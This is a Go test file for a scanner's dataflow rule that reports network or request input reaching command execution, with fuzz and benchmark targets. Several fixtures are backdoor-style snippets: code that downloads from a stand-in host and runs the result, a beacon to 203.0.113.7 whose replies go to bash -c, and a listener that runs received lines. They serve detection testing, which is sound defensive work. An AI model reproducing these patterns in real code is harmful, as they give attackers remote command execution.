package dataflow

import (
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"

	"glassbox.dev/scan"
)

// flowCase is a package (file name to source) and the sink the rule must
// report, as file:line, or "" if it must stay quiet.
type flowCase struct {
	name  string
	files map[string]string
	want  string
}

var goCases = []flowCase{
	{"download returned by a helper decides the program", map[string]string{
		"a.go": `package p

import (
	"io"
	"net/http"
	"os/exec"
)

func fetch(u string) string {
	resp, err := http.Get(u)
	if err != nil {
		return ""
	}
	b, _ := io.ReadAll(resp.Body)
	return string(b)
}

func Update() {
	c := fetch("http://example.invalid/next")
	exec.Command(c).Run()
}
`}, "a.go:20"},
	{"bytes read from a dialled connection reach a shell in another file", map[string]string{
		"dial.go": `package p

import "net"

func beacon() {
	conn, err := net.Dial("tcp", "203.0.113.7:443")
	if err != nil {
		return
	}
	buf := make([]byte, 512)
	n, _ := conn.Read(buf)
	handle(string(buf[:n]))
}
`,
		"run.go": `package p

import "os/exec"

func handle(msg string) {
	if len(msg) > 2 {
		exec.Command("bash", "-c", msg[2:]).Run()
	}
}
`}, "run.go:7"},
	{"a package variable carries a form value to a worker", map[string]string{
		"h.go": `package p

import "net/http"

var pending string

func H(w http.ResponseWriter, r *http.Request) { pending = r.FormValue("c") }
`,
		"w.go": `package p

import "os/exec"

func worker() { exec.Command("sh", "-c", pending).Run() }
`}, "w.go:5"},
	{"accepted connection line to syscall.Exec", map[string]string{
		"l.go": `package p

import (
	"bufio"
	"net"
	"strings"
	"syscall"
)

func serve(ln net.Listener) {
	for {
		c, err := ln.Accept()
		if err != nil {
			return
		}
		line, _ := bufio.NewReader(c).ReadString('\n')
		f := strings.Fields(line)
		syscall.Exec(f[0], f, nil)
	}
}
`}, "l.go:18"},
	{"a request that only selects a fixed command is not a path", map[string]string{
		"h.go": `package p

import (
	"net/http"
	"os/exec"
)

func H(w http.ResponseWriter, r *http.Request) {
	if r.FormValue("op") == "restart" {
		exec.Command("systemctl", "restart", "svc").Run()
	}
	exec.Command("git", "show", r.FormValue("rev")).Run()
}
`}, ""},
	{"argv decides the program of a command-line tool", map[string]string{
		"main.go": `package main

import (
	"net"
	"os"
	"os/exec"
)

func main() {
	net.Dial("tcp", "127.0.0.1:1")
	exec.Command(os.Args[1], os.Args[2:]...).Run()
}
`}, ""},
}

func TestGoFlows(t *testing.T) {
	s := &scan.Scanner{Analyzers: []scan.Analyzer{analyzer{}}}
	for _, c := range goCases {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			for name, src := range c.files {
				if err := os.WriteFile(filepath.Join(dir, name), []byte(src), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			res, err := s.ScanDir(t.Context(), dir)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range res.Findings {
				got = append(got, f.Path+":"+itoa(f.Region.StartLine))
				if len(f.Flow) < 2 || !strings.Contains(f.Message, " reaches ") {
					t.Errorf("finding without its path: %+v", f.Finding)
				}
			}
			want := []string{}
			if c.want != "" {
				want = []string{c.want}
			}
			if strings.Join(got, " ") != strings.Join(want, " ") {
				t.Errorf("found %v, want %v", got, want)
				for _, f := range res.Findings {
					t.Log(f.Message)
				}
			}
		})
	}
}

func itoa(n int) string { return strconv.Itoa(n) }

// BenchmarkGoroot measures the family alone (engine included) on the Go
// source tree: the cost of the cross-function analysis in a scan.
func BenchmarkGoroot(b *testing.B) {
	root := filepath.Join(runtime.GOROOT(), "src")
	if _, err := os.Stat(root); err != nil {
		b.Skip("no GOROOT/src")
	}
	s := &scan.Scanner{Analyzers: []scan.Analyzer{analyzer{}}}
	for b.Loop() {
		res, err := s.ScanDir(b.Context(), root)
		if err != nil {
			b.Fatal(err)
		}
		b.SetBytes(res.Bytes)
	}
}

// FuzzSetAnalyze runs the Go analysis on a package of two files: the
// fuzzed one and a fixed file with sinks it may call into.
func FuzzSetAnalyze(f *testing.F) {
	for _, c := range goCases {
		for _, src := range c.files {
			f.Add([]byte(src))
		}
	}
	for _, p := range []string{"../../testdata/incidents/go-split-exec-backdoor/server.go", "../../testdata/incidents/go-split-exec-backdoor/maintenance.go"} {
		if b, err := os.ReadFile(p); err == nil {
			f.Add(b)
		}
	}
	fixed := scan.NewFile("sink.go", []byte("package p\n\nimport \"os/exec\"\n\nfunc handle(s string) { exec.Command(\"sh\", \"-c\", s).Run() }\n"))
	f.Fuzz(func(t *testing.T, b []byte) {
		analyzer{}.AnalyzeSet(&scan.FileSet{Key: "go:.", Files: []*scan.File{scan.NewFile("a.go", b), fixed}})
	})
}

// FuzzCFlows runs the C analysis on a directory of two files likewise.
func FuzzCFlows(f *testing.F) {
	for _, p := range []string{"../../testdata/incidents/c-split-recv-system/net.c", "../../testdata/incidents/c-split-recv-system/diag.c", "testdata/negative/c-control-socket/ctl.c"} {
		if b, err := os.ReadFile(p); err == nil {
			f.Add(b)
		}
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		a := scan.NewFile("a.c", b)
		s := scan.NewFile("sink.c", []byte("#include <stdlib.h>\nvoid handle(const char *s) { system(s); }\n"))
		defer a.Close()
		defer s.Close()
		analyzer{}.AnalyzeSet(&scan.FileSet{Key: "c:.", Files: []*scan.File{a, s}})
	})
}
